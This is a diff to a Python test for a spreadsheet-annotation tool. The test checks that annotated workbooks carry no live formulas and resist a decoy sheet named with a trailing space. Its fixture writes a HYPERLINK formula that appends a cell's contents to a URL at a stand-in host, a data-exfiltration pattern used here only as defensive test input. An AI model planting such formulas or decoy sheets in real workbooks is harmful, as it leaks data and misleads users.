@@ -479,7 +479,7 @@ def test_the_marked_up_copy_carries_no_live_formula_and_survives_odd_sheet_names
     from etl.annotate import annotated_workbook
 
     def change(book):
-        book["Petunjuk"].title = "daftar masalah"  # the name the issue list takes, in other letters
+        book["Petunjuk"].title = "daftar masalah "  # the name the issue list takes, in other letters: a fake list
         ws = book["Indikator"]
         ws["H3"] = '=HYPERLINK("http://contoh.test/"&Identitas!B5,"lihat catatan")'
         ws[f"E{row_of(ws, 'PCG-06')}"] = "banyak"
@@ -490,7 +490,7 @@ def test_the_marked_up_copy_carries_no_live_formula_and_survives_odd_sheet_names
     with zipfile.ZipFile(io.BytesIO(marked)) as package:
         assert not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in package.namelist() if n.endswith(".xml"))
     book = openpyxl.load_workbook(io.BytesIO(marked))
-    assert book.sheetnames[0] == "Daftar Masalah" and "daftar masalah" not in book.sheetnames
+    assert [n for n in book.sheetnames if n.strip().lower() == "daftar masalah"] == ["Daftar Masalah"] == book.sheetnames[:1]
 
 
 def test_a_merged_range_bomb_is_refused_before_anything_opens_it(ref):
